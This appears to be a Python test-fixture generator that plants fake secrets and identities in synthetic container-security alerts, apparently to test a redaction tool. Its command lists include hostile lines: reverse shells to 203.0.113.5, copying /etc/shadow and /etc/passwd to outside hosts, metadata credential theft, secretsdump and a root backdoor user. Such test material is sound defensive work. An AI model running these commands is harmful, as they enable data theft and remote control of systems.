# ruff: noqa: E501, S311  (command lines are read better whole; nothing here is a real secret)
"""Alerts with secrets and identities planted in them, made by a seeded generator: nothing in them exists."""

from __future__ import annotations

import base64
import json
import random
import string
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

# {s}: a secret, {u}: a person, {h}: a host of ours, {ip}: an internal address, {ns}: a namespace, {pod}: a pod. What a
# reader needs stands behind the bar.
COMMANDS = """
mysql --host={h} -u{u} -p{s} shop -e 'select 1' | mysql; shop
mysqldump -h {ip} --user {u} --password={s} --all-databases | mysqldump; --all-databases
mysqladmin -u root -p{s} shutdown | mysqladmin; shutdown
mariadb -u root --password {s} | mariadb
/usr/bin/psql postgres://{u}:{s}@{h}:5432/ledger?sslmode=require | psql; 5432; sslmode=require
env PGPASSWORD={s} pg_dump -h {h} -U {u} ledger | pg_dump; ledger
psql "host={h} user={u} password={s} dbname=ledger" | psql; ledger
redis-cli -h {ip} -p 6379 -a {s} KEYS * | redis-cli; 6379; KEYS
redis-cli --user default --pass {s} CONFIG GET dir | CONFIG GET dir
redis-cli -u redis://:{s}@{h}:6380/2 FLUSHALL | FLUSHALL; 6380
REDISCLI_AUTH={s} redis-cli -h {h} SAVE | SAVE
mongosh mongodb+srv://{u}:{s}@{h}/admin --quiet | mongosh; --quiet
mongodump --host {h} --username {u} --password {s} --out /tmp/dump | /tmp/dump
mongo {h}:27017/admin -u {u} -p {s} --eval db.shutdownServer() | db.shutdownServer(); 27017
curl -s -u {u}:{s} -X POST https://{h}/api/v2/jobs | -X POST; /api/v2/jobs
curl --user {u}:{s} -T /etc/passwd ftp://203.0.113.40/drop/ | /etc/passwd; 203.0.113.40
curl -kL -H "Authorization: Bearer {s}" https://198.51.100.7/x.sh -o /tmp/x.sh | /tmp/x.sh; 198.51.100.7
curl -H 'X-Vault-Token: {s}' http://127.0.0.1:8200/v1/sys/seal | 127.0.0.1:8200; /v1/sys/seal
curl -H PRIVATE-TOKEN:{s} https://gitlab.com/api/v4/projects | /api/v4/projects
curl -d '{{"username":"{u}","password":"{s}"}}' http://{ip}:3000/login | 3000/login
curl -b session={s} https://example.org/export | example.org/export
curl "https://example.org/hook?api_key={s}&since=3" | since=3
curl -x http://{u}:{s}@{ip}:3128 https://example.org | 3128; example.org
wget --user={u} --password={s} https://example.org/a.tgz | wget; a.tgz
wget --header="X-Auth-Token: {s}" https://example.org/b.bin | b.bin
wget https://{u}:{s}@example.org/c.iso | c.iso
http -a {u}:{s} GET https://example.org/items | GET
aws configure set aws_secret_access_key {s} --profile ops | aws configure set
AWS_ACCESS_KEY_ID={akia} AWS_SECRET_ACCESS_KEY={s} aws s3 cp /etc/shadow s3://{bucket}/x | /etc/shadow; aws s3 cp
aws secretsmanager put-secret-value --secret-id x --secret-string {s} | put-secret-value
aws rds modify-db-instance --db-instance-identifier d1 --master-user-password {s} | modify-db-instance
gcloud sql users set-password postgres --instance main --password={s} | set-password
az login --service-principal --username 0c3a --password {s} --tenant t | az login --service-principal
az keyvault secret set --vault-name kv1 --name n --value {s} | az keyvault secret set
az storage blob upload --account-name st1 --account-key {s} -f /tmp/d | /tmp/d
kubectl --server https://{ip}:6443 --token {s} get secrets -n {ns} | get secrets; 6443
kubectl create secret generic db --from-literal=DB_PASS={s} -n {ns} | create secret generic
kubectl create secret docker-registry r --docker-server=quay.io --docker-username={u} --docker-password={s} | docker-registry
kubectl exec -it {pod} -n {ns} -- env ROOT_PASSWORD={s} sh | exec -it; sh
oc login https://{ip}:8443 -u {u} -p {s} --insecure-skip-tls-verify | --insecure-skip-tls-verify
docker login -u {u} --password {s} docker.io | docker login
docker login -u {u} -p {s} docker.io | docker login
echo {s} | docker login --username {u} --password-stdin ghcr.io | docker login; ghcr.io
docker run -d -e POSTGRES_PASSWORD={s} -p 5432:5432 postgres:16 | 5432:5432; postgres:16
podman login --username {u} --password {s} quay.io | podman login
skopeo copy --src-creds {u}:{s} docker://quay.io/a/b dir:/tmp/b | skopeo copy; dir:/tmp/b
helm upgrade web ./chart --set postgresql.auth.password={s} --namespace {ns} | helm upgrade; ./chart
helm repo add r https://example.org/charts --username {u} --password {s} | helm repo add
helm registry login example.org -u {u} -p {s} | helm registry login
ctr -n k8s.io images pull --user {u}:{s} docker.io/library/nginx:1.25 | docker.io/library/nginx:1.25
sshpass -p {s} ssh -o StrictHostKeyChecking=no {u}@{h} id | StrictHostKeyChecking=no; ssh
sshpass -p{s} scp /etc/hosts {u}@{ip}:/tmp/ | /etc/hosts
SSHPASS={s} sshpass -e sftp {u}@{h} | sftp
ldapsearch -x -H ldap://{h} -D cn=admin,dc=x -w {s} -b dc=x (uid=*) | ldapsearch; (uid=*)
ldapmodify -D uid={u},ou=people -w {s} -f /tmp/c.ldif | /tmp/c.ldif
smbclient //{h}/C$ -U {u}%{s} -c dir | smbclient; dir
mount -t cifs //{ip}/s /mnt -o username={u},password={s},vers=3.0 | mount -t cifs; vers=3.0
rpcclient -U {u}%{s} {ip} -c enumdomusers | enumdomusers
openssl enc -d -aes-256-cbc -pass pass:{s} -in /tmp/p.enc | openssl enc; -aes-256-cbc; /tmp/p.enc
openssl rsa -in k.pem -passin pass:{s} | openssl rsa; k.pem
openssl pkcs12 -export -passout pass:{s} -out o.p12 | o.p12
git clone https://{u}:{s}@github.com/example/repo.git | git clone; github.com/example/repo.git
git clone https://oauth2:{s}@gitlab.com/example/repo.git | gitlab.com/example/repo.git
git -c http.extraHeader="Authorization: Basic {b64}" fetch | git; fetch
git push https://x-access-token:{ghp}@github.com/example/repo | git push
npm config set //registry.npmjs.org/:_authToken {s} | registry.npmjs.org
npm publish --//registry.npmjs.org/:_authToken={s} | npm publish
NPM_TOKEN={s} npm ci --ignore-scripts | npm ci --ignore-scripts
pip install --index-url https://{u}:{s}@example.org/simple requests | requests; pip install
twine upload -u __token__ -p {pypi} dist/x.whl | twine upload; dist/x.whl
poetry config http-basic.internal {u} {s} | poetry config
vault login {hvs} | vault login
vault login -method=userpass username={u} password={s} | -method=userpass
vault kv put secret/app/db conn={s} | vault kv put; secret/app/db
vault write auth/approle/login role_id=r1 secret_id={s} | auth/approle/login
VAULT_TOKEN={hvs} vault read sys/mounts | vault read sys/mounts
vault operator unseal {s} | vault operator unseal
rabbitmqadmin -H {h} -u {u} -p {s} list users | rabbitmqadmin; list users
rabbitmqctl change_password {u} {s} | change_password
rabbitmqctl add_user {u} {s} | add_user
sqlcmd -S {h},1433 -U sa -P {s} -Q "EXEC xp_cmdshell 'id'" | xp_cmdshell; 1433
bcp db.dbo.t out /tmp/t.csv -S {h} -U sa -P{s} | /tmp/t.csv
sqlplus system/{s}@//{h}:1521/ORCL @drop.sql | 1521/ORCL; @drop.sql
restic -r rest:https://{u}:{s}@example.org/repo backup /etc | backup /etc
RESTIC_PASSWORD={s} restic -r /srv/r forget --prune | forget --prune
BORG_PASSPHRASE={s} borg delete /srv/borg::a | borg delete
rclone config create remote webdav url https://example.org user {u} pass {s} | rclone config create
rclone copy /data :s3:{bucket} --s3-access-key-id x --s3-secret-access-key {s} | rclone copy; /data
ansible all -i {h}, -m shell -a id -e ansible_password={s} | ansible all; -m shell
ansible-playbook site.yml --extra-vars "ansible_become_pass={s} env=prod" | site.yml
ansible-playbook p.yml -e '{{"vault_db_password": "{s}"}}' | p.yml
terraform apply -auto-approve -var=db_password={s} | -auto-approve
TF_VAR_admin_password={s} terraform destroy -force | terraform destroy -force
ARM_CLIENT_SECRET={s} terraform plan | terraform plan
snmpwalk -v3 -u {u} -l authPriv -a SHA -A {s} {ip} | snmpwalk; authPriv
ipmitool -I lanplus -H {ip} -U {u} -P {s} chassis power off | chassis power off
evil-winrm -i {ip} -u {u} -p {s} | evil-winrm
crackmapexec smb {ip}/24 -u {u} -p {s} --shares | crackmapexec smb; --shares
xfreerdp /v:{h} /u:{u} /p:{s} /cert:ignore | /cert:ignore
impacket-secretsdump CORP/{u}:{s}@{ip} | impacket-secretsdump
hydra -l {u} -p {s} ssh://{ip} | hydra
net user {u} {s} /add /domain | /add /domain
chpasswd <<< {u}:{s} | chpasswd
sh -c echo '{u}:{s}' | chpasswd | chpasswd
sh -c echo {s} | sudo -S cat /etc/shadow | sudo -S cat /etc/shadow
useradd -m -p {hash} {u} | useradd -m
htpasswd -b -c /etc/nginx/.htpasswd {u} {s} | /etc/nginx/.htpasswd
zip -r -P {s} /tmp/loot.zip /home | /tmp/loot.zip; zip -r
7z a -p{s} /tmp/loot.7z /etc | /tmp/loot.7z
gpg --batch --yes --passphrase {s} -c /tmp/d.tar | /tmp/d.tar
keytool -list -keystore /opt/k.jks -storepass {s} | keytool -list; /opt/k.jks
java -Dspring.datasource.password={s} -jar /srv/app.jar --server.port=8080 | --server.port=8080; /srv/app.jar
java -Djavax.net.ssl.trustStorePassword={s} -cp /srv Main | -cp /srv
influx -host {ip} -username {u} -password {s} -execute 'drop database m' | drop database m
cqlsh {ip} 9042 -u {u} -p {s} | 9042
clickhouse-client --host {h} --user default --password {s} -q 'select 1' | select 1
elasticsearch-users useradd {u} -p {s} -r superuser | superuser
mosquitto_pub -h {ip} -t lab/door -u {u} -P {s} -m open | lab/door
gh auth login --with-token <<< {ghp} | gh auth login
glab auth login --hostname gitlab.com --token {glpat} | glab auth login
doctl auth init -t {s} | doctl auth init
flyctl deploy --access-token {s} | flyctl deploy
sentry-cli --auth-token {s} releases list | releases list
sonar-scanner -Dsonar.token={s} -Dsonar.projectKey=web | -Dsonar.projectKey=web
datadog-ci --dd-api-key {s} junit upload /tmp/r.xml | /tmp/r.xml
ngrok config add-authtoken {s} | ngrok config
tailscale up --authkey={s} --ssh | tailscale up; --ssh
kubeadm join {ip}:6443 --token {boot} --discovery-token-unsafe-skip-ca-verification | --discovery-token-unsafe-skip-ca-verification
docker swarm join --token {s} {ip}:2377 | swarm join; 2377
gitlab-runner register --url https://gitlab.com --registration-token {s} | gitlab-runner register
etcdctl --endpoints https://{ip}:2379 --user root:{s} get / --prefix | get / --prefix; 2379
consul kv get -token={s} -recurse secret/ | consul kv get; -recurse
nmcli dev wifi connect office password {s} | nmcli dev wifi connect
wpa_passphrase office {s} | wpa_passphrase
lftp -u {u},{s} -e 'mirror -R /etc' sftp://203.0.113.9 | mirror -R /etc; 203.0.113.9
plink -batch -pw {s} {u}@{ip} whoami | plink -batch; whoami
mc alias set store https://example.org {ak} {s} | mc alias set
s3cmd --access_key=x --secret_key={s} ls | s3cmd
linkerctl connect --endpoint {h} --client-secret {s} --verbose | linkerctl connect; --verbose
backupd -U {u} -P {s} --once | backupd; --once
zsyncer --auth {u}:{s} --pull /srv/data | zsyncer; --pull /srv/data
./agent --enroll-token={s} --tags web | ./agent; --tags web
statsfeed -endpoint https://example.org -apikey {s} | statsfeed
deployer push --signing-key {s} --channel stable | deployer push; --channel stable
quokka sync "amqps://{u}:{s}@{h}:5671/vhost" | quokka sync; 5671/vhost
dbmigrate "Server={h};Database=x;User Id={u};Password={s};Encrypt=true" | dbmigrate; Encrypt=true
dbtool --dsn '{u}:{s}@tcp({ip}:3306)/shop?parseTime=true' | dbtool; 3306; parseTime=true
blobtool DefaultEndpointsProtocol=https;AccountName=st1;AccountKey={s};EndpointSuffix=core.windows.net | blobtool
"""
# Command lines in which nothing is secret, with what must stay.
HARMLESS = """
cat /etc/shadow | /etc/shadow
insmod /lib/modules/6.1.0/extra/rk.ko | insmod; /lib/modules/6.1.0/extra/rk.ko
passwd root | passwd root
grep -r password= /etc /var/www | grep -r; /var/www
find / -name id_rsa -o -name *.pem -o -name .aws/credentials | id_rsa; *.pem; .aws/credentials
cat /var/run/secrets/kubernetes.io/serviceaccount/token | /var/run/secrets/kubernetes.io/serviceaccount/token
curl http://169.254.169.254/latest/meta-data/iam/security-credentials/ | 169.254.169.254; security-credentials
curl -o /tmp/k http://198.51.100.23:8080/keys.txt | 198.51.100.23:8080; keys.txt
nc -e /bin/sh 203.0.113.5 4444 | /bin/sh; 203.0.113.5; 4444
bash -c bash -i >& /dev/tcp/203.0.113.5/9001 0>&1 | /dev/tcp/203.0.113.5/9001
docker run -u 1000:1000 -p 8080:80 -v /:/host alpine:3.19 | 1000:1000; 8080:80; /:/host; alpine:3.19
ssh -p 2222 -i /root/.ssh/id_ed25519 root@198.51.100.8 | 2222; /root/.ssh/id_ed25519
mysql --defaults-file=/etc/mysql/debian.cnf -p | /etc/mysql/debian.cnf
nmap -sS -p1-65535 -u 198.51.100.0/24 | -p1-65535; 198.51.100.0/24
vault server -config=/etc/vault.d/vault.hcl | /etc/vault.d/vault.hcl
nginx -g daemon off; -c /etc/nginx/nginx.conf | daemon off; /etc/nginx/nginx.conf
tar -cpzf /tmp/b.tgz /var/lib/secrets | /var/lib/secrets
journalctl -u sshd -p err --since today | sshd; err; today
useradd -o -u 0 -g 0 -s /bin/bash toor | -u 0; /bin/bash
apt-get install -y token-server passwdqc | token-server; passwdqc
openssl req -new -key /etc/ssl/private/a.key -out /tmp/a.csr | /etc/ssl/private/a.key; /tmp/a.csr
kubectl get pods -n kube-system -o wide | kube-system; -o wide
systemctl stop auditd | auditd
chmod 4755 /tmp/.x/sh | 4755; /tmp/.x/sh
iptables -A INPUT -p tcp --dport 22 -j ACCEPT | -p tcp; --dport 22
python3 -m http.server 8000 --bind 0.0.0.0 | http.server; 8000; 0.0.0.0
base64 -d /tmp/payload.b64 | /tmp/payload.b64
setenforce 0 | setenforce 0
crontab -u www-data /tmp/c | www-data; /tmp/c
dd if=/dev/sda of=/mnt/usb.img bs=4M | if=/dev/sda; bs=4M
"""
POSITIONS = ("cmdline", "pcmdline", "acmdline", "env", "args", "output", "tag", "nested", "custom", "fd", "json_text")


@dataclass
class Planted:
    """One alert, what must not leave, and what must stay."""

    name: str
    alert: dict[str, Any]
    secrets: list[str] = field(default_factory=list)
    identities: list[str] = field(default_factory=list)
    stay: list[str] = field(default_factory=list)

    @property
    def raw(self) -> bytes:
        return json.dumps(self.alert).encode()


class Maker:
    """Makes names and secrets that nobody has."""

    def __init__(self, seed: int) -> None:
        self.random = random.Random(seed)

    def chars(self, alphabet: str, size: int) -> str:
        return "".join(self.random.choice(alphabet) for _ in range(size))

    def secret(self) -> str:
        letters, digits = string.ascii_letters, string.digits
        kind = self.random.randrange(6)
        if kind == 0:
            return (
                self.chars(string.ascii_lowercase, 4)
                + self.random.choice("!#*+_")
                + self.chars(letters, 3)
                + "7"
                + self.chars(digits, 2)
            )
        if kind == 1:
            return (
                self.chars("0123456789abcdef", 32)
                if self.random.random() < 0.5
                else "a1" + self.chars("0123456789abcdef", 38)
            )
        if kind == 2:
            return self.chars(letters, 2) + self.chars(letters + digits + "+/", 38) + "9x=="
        if kind == 3:
            return (
                self.chars(string.ascii_uppercase, 1)
                + self.chars(string.ascii_lowercase, 6)
                + self.chars(digits, 4)
                + "!"
            )
        if kind == 4:
            return "q" + self.chars(letters + digits + "_-", 22) + "4Z"
        return (
            self.chars(string.ascii_lowercase, 5)
            + "-"
            + self.chars(string.ascii_lowercase, 6)
            + "-"
            + self.chars(digits, 3)
        )

    def word(self) -> str:
        return "".join(
            self.random.choice(("ba", "ke", "lo", "mu", "zi", "tra", "ven", "dor", "quil", "pex")) for _ in range(3)
        )

    def names(self) -> dict[str, str]:
        word, company, team = self.word(), self.word(), self.word()
        return {
            "u": self.random.choice(
                (f"{word[0]}{self.word()}", f"{word}.{self.word()}", f"{word}_{self.random.randrange(10, 99)}")
            ),
            "company": company,
            "h": self.random.choice(
                (
                    f"{team}-db-{self.random.randrange(1, 60):02}.{company}.com",
                    f"{team}{self.random.randrange(10, 99)}.{company}.internal",
                )
            ),
            "ip": self.random.choice(("10.{}.{}.{}", "172.20.{1}.{2}", "192.168.{1}.{2}", "100.72.{1}.{2}")).format(
                *(self.random.randrange(1, 250) for _ in range(3))
            ),
            "ns": f"{company}-{self.random.choice(('pay', 'core', 'prd'))}",
            "pod": f"{team}-{self.random.choice(('api', 'batch'))}-{self.chars('bcdf2456789', 9)}-{self.chars('bcdfgh24567', 5)}",
            "bucket": f"{company}-backups-{self.random.randrange(100, 999)}",
            "account": "".join(str(self.random.randrange(10)) for _ in range(12)).replace("0", "7"),
        }


def _rows(text: str) -> Iterator[tuple[str, list[str]]]:
    for line in text.strip().splitlines():
        command, _, stay = line.rpartition(" | ")
        yield command, [part for part in stay.split("; ") if part]


def planted(seed: int = 11) -> list[Planted]:
    """All alerts: every command at least once, secrets and identities in every position."""
    maker = Maker(seed)
    made = [_planted(maker, number, command, stay) for number, (command, stay) in enumerate(_rows(COMMANDS))]
    made += [_planted(maker, number, command, stay) for number, (command, stay) in enumerate(_rows(HARMLESS), 1000)]
    return made


def _planted(maker: Maker, number: int, command: str, stay: list[str]) -> Planted:
    names, secret = maker.names(), maker.secret()
    letters = string.ascii_letters + string.digits
    tokens = {
        "s": secret,
        "akia": "AKIA" + maker.chars(string.ascii_uppercase + "234567", 16),
        "ghp": "ghp_" + maker.chars(letters, 36),
        "glpat": "glpat-" + maker.chars(letters, 20),
        "pypi": "pypi-" + maker.chars(letters, 60),
        "hvs": "hvs." + maker.chars(letters, 40),
        "hash": "$6$" + maker.chars(letters, 8) + "$" + maker.chars(letters + "./", 60),
        "boot": f"{maker.chars('abcdefgh23456789', 6)}.{maker.chars('abcdefgh23456789', 16)}",
        "ak": maker.chars(string.ascii_uppercase + string.digits, 20),
        "b64": base64.b64encode(f"{names['u']}:{secret}".encode()).decode(),
    }
    line = command.format(**names, **tokens) if number < 1000 else command
    secrets = [value for name, value in tokens.items() if number < 1000 and "{" + name + "}" in command]
    program = next((w for w in line.split() if "=" not in w and not w.startswith("env")), "sh").rsplit("/", 1)[-1]
    position = POSITIONS[number % len(POSITIONS)] if number < 1000 else "cmdline"
    fields: dict[str, Any] = {
        "container.id": maker.chars("0123456789abcdef", 12),
        "container.name": names["pod"].rsplit("-", 2)[0],
        "container.image.repository": f"registry.{names['company']}.com/team/{names['pod'].split('-')[0]}",
        "container.image.tag": "2.4.1",
        "k8s.ns.name": names["ns"],
        "k8s.pod.name": names["pod"],
        "user.name": names["u"],
        "user.loginuid": 1004,
        "proc.name": "sh",
        "proc.pname": "containerd-shim",
        "proc.exepath": "/usr/bin/dash",
        "proc.cmdline": "sh -c run",
        "proc.cwd": f"/home/{names['u']}/work/",
        "fd.name": f"{names['ip']}:41022->203.0.113.77:443",
        "evt.type": "execve",
    }
    alert: dict[str, Any] = {
        "hostname": names["h"],
        "priority": "Warning",
        "rule": "Run shell untrusted",
        "source": "syscall",
        "tags": ["shell", f"owner:{names['u']}"],
        "time": "2026-02-03T04:05:06.000000007Z",
    }
    _put(alert, fields, position, line, program)
    output = f"04:05:06.000000007: Warning Shell (user={names['u']} ns={names['ns']} command={fields['proc.cmdline']} on {names['h']})"
    alert["output"] = (
        output if position != "output" else f"04:05:06.000000007: Warning Ran {line} as {names['u']} (command=sh)"
    )
    alert["output_fields"] = fields
    shown = [s for s in stay if position in {"cmdline", "pcmdline"}]
    identities = [
        names["u"],
        names["h"],
        names["ip"],
        names["ns"],
        names["pod"],
        names["company"],
        fields["container.id"],
    ]
    shown += ["containerd-shim", "/usr/bin/dash", "execve", "1004", "2.4.1"]
    if position != "fd":
        shown.append("203.0.113.77:443")
    return Planted(f"{number}-{position}-{program}", alert, secrets, identities, shown)


def _put(alert: dict[str, Any], fields: dict[str, Any], position: str, line: str, program: str) -> None:
    if position == "cmdline":
        fields["proc.cmdline"], fields["proc.name"] = line, program
    elif position == "pcmdline":
        fields["proc.pcmdline"] = line
    elif position == "acmdline":
        fields["proc.acmdline[2]"] = line
    elif position == "env":
        fields["proc.env"] = f"HOME=/root LAST_COMMAND='{line}' TERM=xterm"
    elif position == "args":
        fields["evt.args"] = f"exe={program} args={line} tid=4071"
    elif position == "tag":
        alert["tags"].append(f"cmd:{line}")
    elif position == "nested":
        fields["ka.req.pod.containers"] = [
            {"name": "main", "command": ["sh", "-c", line], "env": [{"name": "A", "value": "b"}]}
        ]
    elif position == "custom":
        fields["custom.last_command"] = line
    elif position == "fd":
        fields["fd.name"] = f"/tmp/history: {line}"
    elif position == "json_text":
        fields["ka.req.raw"] = json.dumps({"spec": {"args": [line], "image": "alpine"}})
